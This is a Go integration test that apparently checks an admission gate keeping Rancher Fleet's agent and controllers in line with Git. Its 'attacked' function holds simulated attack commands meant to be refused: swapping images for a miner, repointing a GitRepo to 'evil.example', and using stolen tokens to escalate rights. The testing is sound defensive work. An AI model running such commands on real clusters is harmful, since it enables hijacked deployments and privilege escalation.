package agents

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/commitgate/commitgate/test/lab"
)

const (
	fleetSystem  = "cattle-fleet-system"
	fleetLocal   = "cattle-fleet-local-system"
	fleetCluster = "cluster-fleet-local-local-1a3d67d0a899" // where Fleet keeps what is for the cluster that it runs in
)

// TestFleetItself has Fleet's own controllers and agent, installed by Fleet's own charts, live a life behind the gate, in the cluster that they manage
// themselves: a GitRepo of GitRepos, plain manifests, a kustomization, a chart, drift, new commits, adoption, pruning, the end of a GitRepo.
func TestFleetItself(t *testing.T) {
	f := startFleet(t)
	bundles := []string{"main-clusters-main", "shop-bundles-billing", "shop-bundles-front", "shop-bundles-kept", "shop-bundles-shop", "team-bundles-team"}
	f.applied("", bundles...)
	check(t, f.processes["fleetagent"].Kill())
	f.drift()
	f.guard(`  agents:
  - name: fleet
    preset: Fleet
    users: ["system:serviceaccount:` + fleetLocal + `:fleet-agent", "system:serviceaccount:` + fleetSystem + `:fleet-controller"]
    fleet: {scope: ` + fleetLocal + `}
  roots:
  - {repository: infra, path: root, agent: fleet}
`)
	f.agent()
	f.becomes("store", "deployment/cart", "{.spec.replicas} {.spec.template.spec.containers[0].image}", "2 registry.example/cart:7")
	f.becomes("store", "configmap/rates", "{.data.vat}", "19")
	f.becomes("store", "poddisruptionbudget/cart", "{.spec.maxUnavailable}", "1")
	f.becomes("billing", "statefulset/ledger", "{.spec.template.spec.containers[0].image}", "registry.example/ledger:2")
	f.becomes("team", "service/team", "{.spec.selector.app}", "team")
	f.applied("what had drifted is put right", bundles...)

	f.commit("another image, rate, colour and greeting", map[string]func(string) string{
		"bundles/shop/cart.yaml":                  replace("cart:7", "cart:8"),
		"bundles/shop/overlays/small/rates.yaml":  replace("19", "16"),
		"bundles/billing/base/kustomization.yaml": replace("blue", "green"),
		"bundles/front/live.yaml":                 replace("Welcome", "Hello"),
		"bundles/team/team.yaml":                  replace("blue", "red"),
	})
	f.applied("a commit", bundles...)
	f.becomes("store", "deployment/cart", "{.spec.replicas} {.spec.template.spec.containers[0].image}", "2 registry.example/cart:8")
	f.becomes("front", "deployment/front", "{.spec.replicas} {.spec.template.spec.containers[0].env[*].value}", "2 Hello local")
	f.becomes("front", "configmap/before", "{.data.greeting}", "Hello")
	f.becomes("team", "configmap/settings", "{.data.colour}", "red")

	f.commit("a late comer, and no budgets", map[string]func(string) string{
		"clusters/main/apps.yaml":  replace("bundles/kept]", "bundles/kept, bundles/late]"),
		"bundles/late/fleet.yaml":  replace("", "defaultNamespace: late\nhelm: {takeOwnership: true}\n"),
		"bundles/late/legacy.yaml": replace("", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: legacy}\ndata: {since: \"2026\"}\n"),
		"bundles/shop/budget.yaml": func(string) string { return "# none\n" },
		"bundles/front/fleet.yaml": replace("replicas: 2", "replicas: 4\n    budget: false"),
	})
	bundles = append(bundles, "shop-bundles-late")
	f.applied("what was there before Fleet is adopted, and what Git no longer declares is pruned", bundles...)
	f.becomes("late", "configmap/legacy", "{.data.since}", "2026")
	f.becomes("store", "poddisruptionbudgets", "{.items[*].metadata.name}", "")
	f.becomes("front", "poddisruptionbudgets", "{.items[*].metadata.name}", "")

	f.commit("no team, nothing kept", map[string]func(string) string{
		"clusters/main/apps.yaml": func(s string) string {
			return replace("bundles/kept, ", "")(s[:strings.Index(s, "---")])
		},
	})
	gone := func(b string) bool { return b == "shop-bundles-kept" || b == "team-bundles-team" }
	f.applied("a GitRepo ends, and takes with it what it made", slices.DeleteFunc(bundles, gone)...)
	f.becomes("fleet-local", "gitrepos.fleet.cattle.io", "{.items[?(@.metadata.name=='team')].metadata.name}", "")
	f.becomes("team", "configmaps,services,cronjobs", "{.items[?(@.metadata.name!='kube-root-ca.crt')].metadata.name}", "")
	f.becomes("kept", "secrets", "{.items[*].metadata.name}", "")
	f.becomes("kept", "configmap/data", "{.data.rows}", "1")
	f.expectNoRefusals("after all")
	f.attacked()
}

// attacked has people, and whoever has the tokens of Fleet's programs, ask for what Git does not say.
func (f *fleet) attacked() {
	f.t.Helper()
	agent, controller, gitjob := f.kubeconfigs["fleetagent"], f.kubeconfigs["fleetcontroller"], f.kubeconfigs["fleetcontroller gitjob"]
	uid := f.get("fleet-local", "gitrepo.fleet.cattle.io/shop", "{.metadata.uid}")
	owned := func(text string) string {
		return strings.Replace(text, "OWNER", `[{apiVersion: fleet.cattle.io/v1alpha1, kind: GitRepo, name: shop, uid: `+uid+`, controller: true}]`, 1)
	}
	const job = `{apiVersion: batch/v1, kind: Job, metadata: {name: shop-0, namespace: fleet-local, ownerReferences: OWNER}, spec: {template: {spec: {serviceAccountName: git-shop,
		restartPolicy: Never, initContainers: [{name: a, image: IMAGE, command: [log.sh], args: [fleet, gitcloner, URL]}], containers: [{name: b, image: IMAGE, command: [log.sh], args: [fleet, apply, x]}]}}}}`
	for what, attack := range map[string]struct {
		who   string
		stdin string
		args  []string
	}{
		"a person's change":              {f.CarolConfig, "", []string{"set", "image", "deployment/cart", "cart=registry.example/miner", "--namespace=store"}},
		"a GitRepo turned to another":    {f.CarolConfig, "", []string{"patch", "gitrepo/shop", "--namespace=fleet-local", "--type=merge", `--patch={"spec":{"repo":"https://evil.example/x"}}`}},
		"a bundle with another file":     {f.CarolConfig, "", []string{"patch", "bundle/shop-bundles-shop", "--namespace=fleet-local", "--type=merge", `--patch={"spec":{"resources":[]}}`}},
		"a deployment put elsewhere":     {f.CarolConfig, "", []string{"patch", "bundledeployment/shop-bundles-shop", "--namespace=" + fleetCluster, "--type=merge", `--patch={"spec":{"options":{"defaultNamespace":"kube-system"}}}`}},
		"the agent, stolen":              {agent, "", []string{"set", "image", "deployment/cart", "cart=registry.example/miner", "--namespace=store"}},
		"the agent, stolen, deletes":     {agent, "", []string{"delete", "service/cart", "--namespace=store"}},
		"the controller, stolen":         {controller, "", []string{"patch", "bundle/shop-bundles-shop", "--namespace=fleet-local", "--type=merge", `--patch={"spec":{"resources":[{"name":"x.yaml","content":"kind: Pod"}]}}`}},
		"the controller puts elsewhere":  {controller, "", []string{"patch", "bundledeployment/shop-bundles-shop", "--namespace=" + fleetCluster, "--type=merge", `--patch={"spec":{"options":{"defaultNamespace":"kube-system"}}}`}},
		"gitjob, stolen, runs an image":  {gitjob, strings.NewReplacer("IMAGE", "registry.example/miner", "URL", f.Repository.URL()).Replace(owned(job)), []string{"create", "--filename=-"}},
		"gitjob, stolen, clones others":  {gitjob, strings.NewReplacer("IMAGE", "rancher/fleet:dev", "URL", "https://evil.example/x").Replace(owned(job)), []string{"create", "--filename=-"}},
		"gitjob, stolen, gives rights":   {gitjob, strings.Replace(f.get("fleet-local", "role/git-shop", "{}"), `"imagescans"`, `"imagescans","clusters"`, 1), []string{"replace", "--filename=-"}},
		"gitjob, stolen, makes accounts": {gitjob, owned(`{apiVersion: v1, kind: ServiceAccount, metadata: {name: fleet-default, namespace: fleet-local, ownerReferences: OWNER}}`), []string{"create", "--filename=-"}},
		"gitjob, stolen, keeps settings": {gitjob, `{apiVersion: v1, kind: ConfigMap, metadata: {name: mine, namespace: store}}`, []string{"create", "--filename=-"}},
	} {
		if _, err := f.Cluster.Kubectl(f.t.Context(), attack.who, attack.stdin, attack.args...); err == nil || !strings.Contains(err.Error(), lab.WebhookName) {
			f.t.Errorf("%s: %v", what, err)
		}
	}
}

// fleet is a stage whose agent is Fleet itself.
type fleet struct {
	*stage
}

func startFleet(t *testing.T) *fleet {
	t.Helper()
	f := &fleet{start(t, "fleet", []string{"fleetcontroller", "fleetagent", "fleetcli", "fleet"}, nil)}
	kubectl := func(args ...string) {
		check(t, f.Eventually(t.Context(), func(ctx context.Context) error {
			_, err := f.Cluster.Kubectl(ctx, f.AdminConfig, "", args...)
			return err
		}))
	}
	for _, namespace := range []string{fleetSystem, fleetLocal} {
		_, err := f.Cluster.Kubectl(t.Context(), f.AdminConfig, "", "create", "namespace", namespace)
		check(t, err)
	}
	for _, chart := range []string{"fleet-crd", "fleet"} { // what `helm install` does
		kubectl("apply", "--server-side", "--namespace="+fleetSystem, "--filename="+filepath.Join(bin(t, "fleet"), chart+".yaml"))
	}
	f.bootstrap("kubectl", "before.yaml")
	f.program("fleetcontroller agentmanagement", fleetSystem, "fleet-controller")
	f.program("fleetcontroller", fleetSystem, "fleet-controller", "--disable-metrics")
	f.program("fleetcontroller gitjob", fleetSystem, "gitjob", "--disable-metrics", "--listen="+freeAddress(t), "--gitjob-image=rancher/fleet:dev")
	f.eventually("the agent is told where to register", func() error {
		if f.get(fleetLocal, "secret/fleet-agent-bootstrap", "{.metadata.name}")+f.get(fleetLocal, "serviceaccount/fleet-agent", "{.metadata.name}") != "fleet-agent-bootstrapfleet-agent" {
			return errors.New("there is no Secret, or no account, of the agent")
		}
		return nil
	})
	f.agent()
	startJobRunner(t, f.Cluster, "fleet-local")
	f.bootstrap("kubectl", "root/main.yaml")
	return f
}

// agent runs fleet-agent, as the same pod each time: so the lease of the one before it is its own.
func (f *fleet) agent() {
	f.t.Helper()
	f.program("fleetagent", fleetLocal, "fleet-agent")
}

func (f *fleet) program(name, namespace, account string, args ...string) {
	f.t.Helper()
	f.run(name, namespace, account, []string{
		"NAMESPACE=" + namespace, "AGENT_SCOPE=" + fleetLocal, "POD_NAME=" + account + "-0", "CHECKIN_INTERVAL=15m", "FLEET_HEALTHPROBE_BIND_ADDRESS=" + freeAddress(f.t),
		// On a machine that stalls nobody else wants to lead.
		"CATTLE_ELECTION_LEASE_DURATION=10m", "CATTLE_ELECTION_RENEW_DEADLINE=9m", "CATTLE_ELECTION_RETRY_PERIOD=10s",
	}, args)
}

// drift is what people did to Fleet's objects while there was no gate, and the agent did not look.
func (f *fleet) drift() {
	f.t.Helper()
	for _, args := range [][]string{
		{"set", "image", "deployment/cart", "cart=registry.example/cart:mine", "--namespace=store"},
		{"scale", "deployment/cart", "--replicas=5", "--namespace=store"},
		{"delete", "poddisruptionbudget/cart", "--namespace=store"},
		{"patch", "configmap/rates", "--namespace=store", `--patch={"data":{"vat":"0"}}`},
		{"set", "image", "statefulset/ledger", "ledger=registry.example/ledger:mine", "--namespace=billing"},
		{"patch", "service/team", "--namespace=team", `--patch={"spec":{"selector":{"app":"mine"}}}`},
	} {
		_, err := f.Cluster.Kubectl(f.t.Context(), f.AdminConfig, "", args...)
		check(f.t, err)
	}
}

// applied waits until the agent has deployed these bundles and no others, as the branch says, and then asks the gate whether it refused anything on the way.
func (f *fleet) applied(what string, bundles ...string) {
	f.t.Helper()
	head, err := f.Repository.Head(f.t.Context())
	check(f.t, err)
	f.eventually(what, func() error {
		const state = `{range .items[*]}{.metadata.name} {.metadata.labels.fleet\.cattle\.io/commit} {.spec.deploymentID} {.status.appliedDeploymentID} {.status.nonModified} {.status.conditions[*].message}{"\n"}{end}`
		out := f.get(fleetCluster, "bundledeployments.fleet.cattle.io", state)
		var done []string
		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
			field := strings.Fields(line)
			if len(field) > 0 && strings.HasPrefix(field[0], "fleet-agent") {
				continue // the agent deploys itself
			}
			if len(field) < 5 || field[1] != string(head) || field[2] != field[3] || field[4] != "true" {
				return fmt.Errorf("not all have deployed %s:\n%s", head.Short(), out)
			}
			done = append(done, field[0])
		}
		if slices.Sort(done); !slices.Equal(done, slices.Sorted(slices.Values(bundles))) {
			return fmt.Errorf("there are other bundles, want %v:\n%s", bundles, out)
		}
		return nil
	})
	f.expectNoRefusals(what)
}
